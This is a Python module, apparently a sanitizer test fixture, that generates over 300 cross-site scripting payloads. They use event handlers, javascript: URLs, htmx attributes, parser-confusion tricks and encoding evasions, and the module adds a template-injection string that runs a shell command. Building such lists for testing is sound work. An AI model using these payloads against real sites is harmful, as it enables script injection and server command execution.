"""What people have tried to make a page run: each payload sets ``window.pwned`` or opens a dialog if it succeeds."""

from __future__ import annotations

import html
import itertools
import urllib.parse

_RUN = ("window.pwned=1", "alert(1)", "top.pwned=1")
_TAGS = (
    '<img src=x onerror="{0}">', "<img src=x onerror={0}>", '<svg onload="{0}">', "<svg/onload={0}>",
    '<svg><animate onbegin="{0}" attributeName=x dur=1s>', '<body onload="{0}">', '<iframe src="javascript:{0}">',
    "<iframe srcdoc=\"<script>parent.{0}</script>\">", '<details open ontoggle="{0}">', '<video><source onerror="{0}">',
    '<audio src=x onerror="{0}">', '<input autofocus onfocus="{0}">', '<select autofocus onfocus="{0}">',
    '<textarea autofocus onfocus="{0}">', '<marquee onstart="{0}">', '<object data="javascript:{0}">',
    '<embed src="javascript:{0}">', '<a href="javascript:{0}" id=bait>x</a>', "<math><mtext><script>{0}</script>",
    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "<script src=data:text/javascript,{0}></script>",
    '<script type="module">{0}</script>', "<scr<script>ipt>{0}</script>", "<!--><script>{0}</script>-->",
    "<style>@import 'javascript:{0}'</style>", '<link rel=stylesheet href="javascript:{0}">',
    '<meta http-equiv=refresh content="0;url=javascript:{0}">', '<base href="javascript:{0}//">',
    '<form action="javascript:{0}"><button>x</button></form>', '<button formaction="javascript:{0}">x</button>',
    '<div hx-on:click="{0}" hx-on:htmx:after:init="{0}">x</div>',
    '<div hx-get="javascript:{0}" hx-trigger="load">x</div>',
    '<div hx-trigger="load[{0}]" hx-get="/">x</div>',
    '<div hx-vals="js:{{x:{0}}}" hx-get="/" hx-trigger="load">x</div>',
    '<template><script>{0}</script></template>', '<noscript><p title="</noscript><img src=x onerror={0}>">',
)  # fmt: skip
_BREAKOUTS = ("{0}", '"><{1}', "'><{1}", '" autofocus onfocus="{2}" x="', "</textarea>{0}", "</title>{0}")
_OTHERS = (
    "{{{{ cycler.__init__.__globals__.os.popen('id').read() }}}}", "{{% for x in () %}}", "${{7*7}}",
    "\u202e<script>{0}</script>", "\ufeff<img src=x onerror={0}>", "<\x00script>{0}</script>", "javascript:{0}",
    "data:text/html,<script>{0}</script>",
)  # fmt: skip


def payloads() -> list[str]:
    """More than 300, all different."""
    made = [tag.format(run) for tag, run in itertools.product(_TAGS, _RUN)]
    plain = [tag.format(_RUN[0]) for tag in _TAGS]
    made += [b.format(p, p[1:], _RUN[0]) for b in _BREAKOUTS[1:] for p in plain]
    made += [other.format(_RUN[0]) for other in _OTHERS]
    made += [html.escape(p) for p in plain[:20]] + [urllib.parse.quote(p) for p in plain[:20]]
    return list(dict.fromkeys(made))
